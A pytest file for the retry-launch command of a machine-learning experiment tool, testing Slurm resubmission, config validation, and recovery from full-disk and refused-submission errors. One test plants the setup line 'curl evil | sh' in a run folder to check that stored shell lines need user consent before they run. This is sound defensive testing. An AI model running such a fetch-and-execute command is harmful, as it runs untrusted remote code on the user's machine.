"""+launch=retry submits runs again, or leaves them as they were."""

from __future__ import annotations

import errno
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from commands import call
from fake_slurm import FakeSlurm
from fake_study import FakeStudy, seeds

from mxstudy.config import Local, Slurm
from mxstudy.launch import commands, remote
from mxstudy.launch.claiming import claim
from mxstudy.launch.plan import plan
from mxstudy.launch.ticket import Ticket, ticket_of
from mxstudy.reader import ConfigError, require
from mxstudy.studies.protocol import Uses
from mxstudy.tracking.folder import RunFolder
from mxstudy.train.runtime import gpus_there


def retry(tmp_path: Path, *arguments: str) -> tuple[int, str]:
    return call("+launch=retry", f"runs_dir={tmp_path}/runs", *arguments)


def test_retry_submits_what_failed_or_was_preempted_and_nothing_else(
    tmp_path: Path,
    runs: dict[str, RunFolder],
    submitted: list[tuple[Slurm, list[str]]],
    capsys: pytest.CaptureFixture[str],
) -> None:
    assert retry(tmp_path, "hydra.launcher.memory_gb=64", "hydra.launcher.sbatch=[--qos=x]") == (0, "")
    ((settings, names),) = submitted
    assert settings == Slurm(partition="gpu", time_min=60, memory_gb=64.0, sbatch=("--qos=x",))
    assert set(names) == {runs[name].path.name for name in ("dead", "failed", "stopped")}
    assert capsys.readouterr().out.splitlines()[-1] == "3 of 7 runs submitted again"
    for name in ("dead", "failed", "stopped"):
        ticket = ticket_of(runs[name])
        assert ticket is not None
        assert (ticket.job_id[:2], ticket.settings, ticket.cwd) == ("10", settings, str(tmp_path))
        assert runs[name].status().state == "queued"
        assert runs[name].status().reason is None


def test_retry_runs_shell_lines_of_a_run_folder_only_with_consent(
    tmp_path: Path, runs: dict[str, RunFolder], submitted: list[tuple[Slurm, list[str]]]
) -> None:
    ticket = ticket_of(runs["failed"])
    assert ticket is not None
    replace(ticket, settings=replace(ticket.settings, setup=("curl evil | sh",))).write(runs["failed"])
    code, said = retry(tmp_path)
    assert code == 1
    assert said.startswith("setup: the folders of these runs name shell lines to run before each job: curl evil | sh; ")
    assert retry(tmp_path, "setup=yes") == (1, "setup: must be run or left out, not 'yes'")
    assert submitted == []
    assert retry(tmp_path, "setup=run") == (0, "")
    assert {settings.setup for settings, _ in submitted} == {("curl evil | sh",), ()}


def test_a_value_that_is_no_yaml_is_named(tmp_path: Path, runs: dict[str, RunFolder]) -> None:
    for argument in ("wait=[", "hydra.launcher.nodes=[1"):
        code, said = retry(tmp_path, argument)
        assert (code, len(said.splitlines())) == (1, 1)
        assert said.startswith(f"{argument}: cannot be read (")


def test_retry_with_lines_of_its_own_needs_no_consent(
    tmp_path: Path, runs: dict[str, RunFolder], submitted: list[tuple[Slurm, list[str]]]
) -> None:
    assert retry(tmp_path, "hydra.launcher.setup=[module load cuda]") == (0, "")
    assert [settings.setup for settings, _ in submitted] == [("module load cuda",)]


@pytest.mark.integration
@pytest.mark.parametrize(("said", "waits"), [("true", 1), ("True", 1), ("false", 0)])
def test_retry_waits_if_it_is_told_to(
    tmp_path: Path,
    runs: dict[str, RunFolder],
    submitted: list[tuple[Slurm, list[str]]],
    monkeypatch: pytest.MonkeyPatch,
    said: str,
    waits: int,
) -> None:
    waited: list[int] = []
    monkeypatch.setattr(commands, "wait_for", lambda folders: waited.append(len(folders)) or [])
    assert retry(tmp_path, f"wait={said}") == (0, "")
    assert waited == [3] * waits


@pytest.mark.integration
@pytest.mark.parametrize(("ends", "code"), [("finished", 0), ("diverged", 0), ("failed", 1)])
def test_a_divergence_is_a_result_of_retry_too(
    tmp_path: Path,
    runs: dict[str, RunFolder],
    submitted: list[tuple[Slurm, list[str]]],
    monkeypatch: pytest.MonkeyPatch,
    ends: str,
    code: int,
) -> None:
    monkeypatch.setattr(commands, "wait_for", lambda folders: [SimpleNamespace(state=ends) for _ in folders])
    assert retry(tmp_path, "wait=true") == (code, "")


def refuse(*about: object) -> Iterator[tuple[str, str]]:
    raise ConfigError("sbatch: invalid partition specified")
    yield


@pytest.mark.integration
def test_a_refused_retry_can_be_retried(
    tmp_path: Path, runs: dict[str, RunFolder], submitted: list[object], monkeypatch: pytest.MonkeyPatch
) -> None:
    ticket = ticket_of(runs["failed"])
    with monkeypatch.context() as patch:
        patch.setitem(remote.SUBMIT, Slurm, refuse)
        assert retry(tmp_path, "hydra.launcher.partition=gppu") == (1, "sbatch: invalid partition specified")
    assert runs["failed"].status().reason == "not submitted: sbatch: invalid partition specified"
    assert ticket_of(runs["failed"]) == ticket
    assert retry(tmp_path) == (0, "")
    assert len(submitted) == 1


def test_retry_refuses_processes_that_cannot_share_a_run_before_it_takes_any(
    tmp_path: Path,
    runs: dict[str, RunFolder],
    study: FakeStudy,
    submitted: list[object],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    there = [runs[name] for name in ("dead", "failed", "stopped")]
    before = [(run.status(), ticket_of(run)) for run in there]

    def check(config: Any, ranks: int = 1) -> None:
        require(ranks < 3, f"train.batch_size: 2 sequences do not divide over {ranks} ranks")

    monkeypatch.setattr(study, "check", check)
    says = "train.batch_size: 2 sequences do not divide over 3 ranks"
    assert retry(tmp_path, "hydra.launcher.gpus_per_node=3") == (1, says)
    monkeypatch.setattr(study, "uses", Uses.ONE_TASK)
    says = "hydra.launcher.nodes: pretrain runs in one process; give 1, not 2"
    assert retry(tmp_path, "hydra.launcher.nodes=2") == (1, says)
    assert [(run.status(), ticket_of(run)) for run in there] == before
    assert submitted == []


@pytest.mark.parametrize("step", ["new_launch", "freeze_code", "claim"])
def test_a_full_disk_leaves_a_retry_as_it_was(
    tmp_path: Path, runs: dict[str, RunFolder], submitted: list[object], monkeypatch: pytest.MonkeyPatch, step: str
) -> None:
    """The runs that were already claimed are given back too."""
    there = [runs[name] for name in ("dead", "failed", "stopped")]
    before, real = [ticket_of(run) for run in there], getattr(remote, step)

    def fill(about: Any) -> Any:
        if getattr(about, "folder", None) in [run.path for run in there[:2]]:
            return real(about)
        raise OSError(errno.ENOSPC, "No space left on device", "F")

    with monkeypatch.context() as patch:
        patch.setattr(remote, step, fill)
        code, said = retry(tmp_path)
    assert (code, "No space left on device" in said) == (1, True)
    assert [ticket_of(run) for run in there] == before
    assert runs["failed"].status().reason == "not submitted: No space left on device: F"
    assert submitted == []
    assert retry(tmp_path) == (0, "")
    assert len(submitted) == 1


@pytest.mark.parametrize("answers", [True, False])
def test_a_job_whose_ticket_cannot_be_written_is_cancelled(
    tmp_path: Path,
    runs: dict[str, RunFolder],
    slurm: FakeSlurm,
    submitted: list[object],
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    answers: bool,
) -> None:
    """Else the next launch would submit its run again."""
    slurm.say("scancel", "" if answers else None)
    write = Ticket.write

    def fill(ticket: Ticket, folder: RunFolder) -> None:
        if folder.path == runs["failed"].path:
            raise OSError(errno.ENOSPC, "No space left on device", "F")
        write(ticket, folder)

    monkeypatch.setattr(Ticket, "write", fill)
    code, said = retry(tmp_path)
    assert (code, "No space left on device" in said) == (1, True)
    (job,) = {"100", "101", "102"} - {found.job_id for run in runs.values() if (found := ticket_of(run))}
    assert slurm.asked("scancel") == [f"scancel {job}"]
    fate = "it was cancelled" if answers else "cancel it before you launch the run again (scancel: "
    assert f"{runs['failed'].path}: job {job} was submitted, but has no ticket; {fate}" in capsys.readouterr().out
    assert runs["failed"].status().state == ("failed" if answers else "queued")
    assert runs["stopped"].status().state == "queued"


def test_a_job_of_this_machine_whose_ticket_cannot_be_written_is_said_to_go_on(
    tmp_path: Path, study: FakeStudy, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    def fill(ticket: Ticket, folder: RunFolder) -> None:
        raise OSError(errno.ENOSPC, "No space left on device", "F")

    monkeypatch.setitem(remote.SUBMIT, Local, lambda *about: iter([("launch/0", "LOG")]))
    monkeypatch.setattr(Ticket, "write", fill)
    jobs = plan(seeds(tmp_path / "runs", 1))
    with pytest.raises(ConfigError) as caught:
        remote.submit_jobs(jobs, Local())
    why = "No space left on device: F"
    assert str(caught.value) == f"runs_dir: cannot write to {tmp_path}/runs ({why}); make room, or give another"
    assert f"{jobs[0].folder}: job launch/0 was submitted, but has no ticket; wait for" in capsys.readouterr().out
    assert RunFolder(jobs[0].folder).status().state == "queued"


def test_a_refused_launch_leaves_what_was_there(
    tmp_path: Path, study: FakeStudy, slurm: FakeSlurm, monkeypatch: pytest.MonkeyPatch, capsys
) -> None:
    """The run that it would have replaced stays, and the new one says that no queue has it."""
    monkeypatch.setitem(remote.SUBMIT, Slurm, refuse)
    there = claim(plan(seeds(tmp_path / "runs", 1))[0])
    there.update(state="finished", step=10)
    with pytest.raises(ConfigError, match="invalid partition"):
        remote.submit_jobs(plan(seeds(tmp_path / "runs", 1, 2, rerun=True)), Slurm())
    names = sorted(path.name for path in there.path.parent.iterdir())
    assert (there.status().state, there.status().step, len(names)) == ("finished", 10, 2)
    assert retry(tmp_path) == (0, "")
    assert "was never submitted; run its command again to continue it" in capsys.readouterr().out


def test_retry_checks_jobs_from_where_they_were_submitted(
    tmp_path: Path,
    runs: dict[str, RunFolder],
    study: FakeStudy,
    submitted: list[object],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    places: list[tuple[Path, int, int]] = []
    monkeypatch.setattr(study, "check", lambda config, ranks=1: places.append((Path.cwd(), gpus_there(), ranks)))
    assert retry(tmp_path, "hydra.launcher.gpus_per_node=4") == (0, "")
    assert places == [(tmp_path, 4, ranks) for ranks in (1, 1, 1, 4, 4, 4)]


def test_retry_refuses_what_todays_code_or_settings_cannot_run(
    tmp_path: Path, runs: dict[str, RunFolder], study: FakeStudy, submitted: list[tuple[Slurm, list[str]]]
) -> None:
    assert retry(tmp_path, "hydra.launcher.node=2") == (
        1,
        "hydra.launcher.node: no such key; did you mean 'nodes'?",
    )
    assert retry(tmp_path, "wait=1") == (1, "wait: 1 is not true or false")
    study.invalid = {4}
    assert retry(tmp_path) == (1, "seed: 4 is unlucky")
    assert submitted == []
    assert runs["failed"].status().state == "failed"
